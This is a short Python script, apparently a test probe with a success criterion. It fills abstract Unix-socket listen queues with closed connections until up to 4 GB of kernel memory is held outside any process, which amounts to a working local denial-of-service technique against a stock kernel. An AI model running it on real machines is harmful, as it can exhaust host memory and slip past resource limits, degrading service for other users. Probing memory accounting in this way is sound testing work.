# Tries: Memory that belongs to no process: connections wait in a listening socket's queue, full, their other ends closed.
# Trace: the kernel's memory (Slab in /proc/meminfo, or what is available) changes by more than 600 MB
# Wins against: stock
# %% cell: q1_minimum
import socket
import time

servers, held = [], 0
while held < 4 * 2**30 and len(servers) < 8:
    server = socket.socket(socket.AF_UNIX)
    server.bind(f"\0queue-{len(servers)}")
    server.listen(4096)
    servers.append(server)
    full = False
    while not full and held < 4 * 2**30:
        client = socket.socket(socket.AF_UNIX)
        client.setblocking(False)
        try:
            client.connect(f"\0queue-{len(servers) - 1}")
        except OSError:
            full = True
        try:
            while not full:
                held += client.send(bytes(2**15))
        except OSError:
            pass
        client.close()
time.sleep(5)
